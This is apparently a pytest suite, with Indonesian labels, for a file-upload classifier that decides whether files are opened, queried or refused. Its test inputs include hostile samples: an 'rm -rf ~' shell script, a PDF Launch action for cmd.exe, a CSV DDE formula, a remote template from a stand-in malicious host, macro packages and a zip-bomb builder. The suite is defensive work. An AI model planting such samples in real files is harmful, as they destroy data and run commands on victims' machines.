"""What a file is by its content and name, and whether it is handed to the system."""

from __future__ import annotations

import io
import tracemalloc
import zipfile
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from models.rules.archive_names import safe_name
from models.rules.file_kinds import PROGRAMS, Content, Judgement, ending_of, judge, name_for
from models.store.file_looking import look_at, members_of

PDF = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n"
PNG = b"\x89PNG\r\n\x1a\n" + bytes(40)
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF" + bytes(40)
EXE = b"MZ\x90\x00\x03\x00" + bytes(60) + b"This program cannot be run in DOS mode"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
LINK = b"L\x00\x00\x00\x01\x14\x02\x00" + bytes(80)


def packed(*members: str, **contents: bytes) -> bytes:
    kept = io.BytesIO()
    with zipfile.ZipFile(kept, "w") as made:
        for name in members:
            made.writestr(name, contents.get(name.rpartition("/")[2].partition(".")[0], b"<x/>"))
    return kept.getvalue()


WORD = packed("[Content_Types].xml", "_rels/.rels", "word/document.xml")


@pytest.mark.parametrize(
    ("name", "content", "judged"),
    [
        ("surat.pdf", PDF, ("buka", "")),
        ("Surat.PDF", b"\n\n" + PDF, ("buka", "")),
        ("foto.jpg", JPEG, ("buka", "")),
        ("catatan.txt", "Catatan rapat, Đ 😀".encode(), ("buka", "")),
        ("daftar.csv", b"nama;jumlah\nAni;3\n", ("buka", "")),
        ("nota.docx", WORD, ("buka", "")),
        ("lama.doc", OLE, ("buka", "")),
        ("suara.mp3", b"ID3\x03" + bytes(20), ("buka", "")),
        # programs, whatever they are called
        ("setup.exe", EXE, ("jangan", "program")),
        ("surat.pdf", EXE, ("jangan", "program")),
        ("surat.pdf.exe", PDF, ("jangan", "program")),
        ("surat", b"\x7fELF" + bytes(50), ("jangan", "program")),
        ("surat.txt", b"#!/bin/sh\nrm -rf ~\n", ("jangan", "program")),
        ("surat.pdf", b"\xef\xbb\xbf[Desktop Entry]\nExec=sh\n", ("jangan", "program")),
        ("surat.pdf.lnk", LINK, ("jangan", "program")),
        ("surat.pdf", LINK, ("jangan", "program")),
        ("surat.js", b"alert(1)", ("jangan", "program")),
        ("surat.hta", b"<html>", ("jangan", "program")),
        ("unduh.url", b"[InternetShortcut]\nURL=file://server/x.exe", ("jangan", "program")),
        ("aplikasi.zip", packed("META-INF/MANIFEST.MF", "A.class"), ("jangan", "program")),
        # what can carry commands
        ("surat.docm", WORD, ("tanya", "makro")),
        ("surat.docx", packed("[Content_Types].xml", "word/x", "word/vbaProject.bin"), ("tanya", "makro")),
        ("a.xlsx", packed("[Content_Types].xml", "xl/macrosheets/sheet1.xml"), ("tanya", "makro")),
        ("a.odt", packed("mimetype", "content.xml", "Basic/Standard/script.xml"), ("tanya", "makro")),
        ("lama.xls", OLE + "_VBA_PROJECT_CUR".encode("utf-16-le"), ("tanya", "makro")),
        ("a.docx", packed("[Content_Types].xml", "word/x", "word/embeddings/o1.bin"), ("tanya", "sisipan")),
        ("a.docx", packed("[Content_Types].xml", "word/x", "word/embeddings/Sheet1.xlsx"), ("buka", "")),
        ("a.odt", packed("mimetype", "content.xml", "Object 1"), ("tanya", "sisipan")),
        ("a.odt", packed("mimetype", "content.xml", "Object 1/content.xml"), ("buka", "")),
        ("halaman.html", b"<!DOCTYPE html><script>", ("tanya", "halaman_web")),
        ("surat.pdf", b"   <html><script>alert(1)</script>", ("tanya", "halaman_web")),
        ("gambar.svg", b"<svg xmlns='x' onload='y'>", ("tanya", "halaman_web")),
        ("berkas.zip", packed("a.txt"), ("tanya", "arsip")),
        ("berkas.iso", bytes(100), ("tanya", "arsip")),
        ("surat.docx", packed("a.exe"), ("tanya", "arsip")),
        ("surat.docx", OLE, ("tanya", "terkunci")),
        ("surat.pdf", PDF + b"/OpenAction << /S /Launch /F (cmd.exe) >>", ("tanya", "perintah")),
        ("data.csv", b"nama,rumus\nx,\"=cmd|' /C calc'!A0\"\n", ("tanya", "perintah")),
        ("surat.rtf", b"{\\rtf1{\\object\\objdata 0105}}", ("tanya", "isi_luar")),
        # names that say something else, or nothing
        ("surat.pdf", bytes(range(256)), ("tanya", "tidak_sesuai")),
        ("surat.docx", PDF, ("tanya", "tidak_sesuai")),
        ("surat", bytes(range(256)), ("tanya", "tidak_dikenal")),
        ("surat.xyz", b"teks biasa", ("tanya", "tidak_dikenal")),
        # text is shown by an editor, whatever is spoken of in it
        ("catatan.txt", b"memakai <html> dan MZ", ("buka", "")),
        ("catatan.txt", b"MZ adalah dua huruf", ("buka", "")),
        ("catatan.txt", b"BM = bidang mutu", ("buka", "")),
        ("catatan.txt", b"=1+1", ("buka", "")),
    ],
)  # fmt: skip
def test_what_is_opened_asked_and_never_opened(
    name: str, content: bytes, judged: tuple[str, str], tmp_path: Path
) -> None:
    path = tmp_path / "isi"
    path.write_bytes(content)
    assert judge(name, look_at(path))[:2] == judged


RELATION = b"""<Relationships><Relationship Id='r1' Type='http://x/relationships/attachedTemplate'
 Target='https://jahat.example/t.dotm' TargetMode='External'/></Relationships>"""
LINK_ONLY = b"""<Relationships><Relationship Type="http://x/relationships/hyperlink"
 Target="https://contoh.go.id/frame/oleObject" TargetMode="External"/></Relationships>"""


@pytest.mark.parametrize(
    ("relations", "reason"),
    [
        (RELATION, "isi_luar"),
        (LINK_ONLY, ""),
        (RELATION.decode().encode("utf-16"), "isi_luar"),
        (b"<a>" + b" " * 300_000 + RELATION, "isi_luar"),
    ],
)
def test_a_template_fetched_from_elsewhere_is_asked_about(
    relations: bytes, reason: str, tmp_path: Path
) -> None:
    path = tmp_path / "isi"
    path.write_bytes(
        packed("[Content_Types].xml", "word/document.xml", "word/_rels/settings.xml.rels", settings=relations)
    )
    assert judge("surat.docx", look_at(path)).reason == reason


def test_a_copy_is_called_what_it_is() -> None:
    as_jpeg = judge("foto.png", Content(JPEG))
    assert as_jpeg == Judgement("buka", "", "jpg")
    assert name_for("foto.png", as_jpeg) == "foto.jpg"
    assert name_for("surat", judge("surat", Content(PDF))) == "surat.pdf"
    assert name_for("surat no. 12", judge("surat no. 12", Content(PDF))) == "surat no. 12.pdf"
    assert name_for("a.jpeg", judge("a.jpeg", Content(JPEG))) == "a.jpeg"


def test_a_zip_that_would_fill_the_memory_is_not_read(tmp_path: Path) -> None:
    path = tmp_path / "bom.docx"
    small = packed("[Content_Types].xml", "word/document.xml")
    at = small.rindex(b"PK\x05\x06") + 10  # where the list says how many there are
    path.write_bytes(small[:at] + (20_001).to_bytes(2, "little") + small[at + 2 :])
    assert members_of(path) == ()
    assert judge("bom.docx", look_at(path)) == ("tanya", "arsip", "")
    deep = tmp_path / "dalam.docx"
    with zipfile.ZipFile(deep, "w", zipfile.ZIP_DEFLATED) as made:
        made.writestr("[Content_Types].xml", b"<x/>")
        made.writestr("word/document.xml", b"<x/>")
        made.writestr("word/_rels/a.rels", b"<" + bytes(20_000_000))
    assert deep.stat().st_size < 300_000
    tracemalloc.start()
    assert judge("dalam.docx", look_at(deep)).reason == "isi_luar"
    assert tracemalloc.get_traced_memory()[1] < 8_000_000, "only the beginning is unpacked"
    tracemalloc.stop()


@settings(max_examples=300, deadline=None)
@given(
    st.text(max_size=60),
    st.sampled_from(sorted(PROGRAMS)),
    st.sampled_from(["", ".", " ", "\u202e", "::$DATA", "\x00"]),
)
def test_no_way_of_writing_the_name_of_a_program_opens_it(stem: str, ending: str, after: str) -> None:
    name = safe_name(f"{stem}.{ending.upper()}{after}", 120)
    judgement = judge(name, Content(PDF))
    opened = name_for(name, judgement)
    assert judgement.verdict != "buka" or ending_of(opened) not in PROGRAMS


@settings(max_examples=400, deadline=None)
@given(
    st.binary(max_size=300),
    st.sampled_from([b"PK\x03\x04", b"PK\x05\x06", b"%PDF-", b"{\\rtf", OLE[:8], b"RIFF", b""]),
)
def test_any_content_is_judged(
    tmp_path_factory: pytest.TempPathFactory, content: bytes, begin: bytes
) -> None:
    path = tmp_path_factory.getbasetemp() / "isi"
    path.write_bytes(begin + content)
    assert judge("surat.pdf", look_at(path)).verdict in ("buka", "tanya", "jangan")
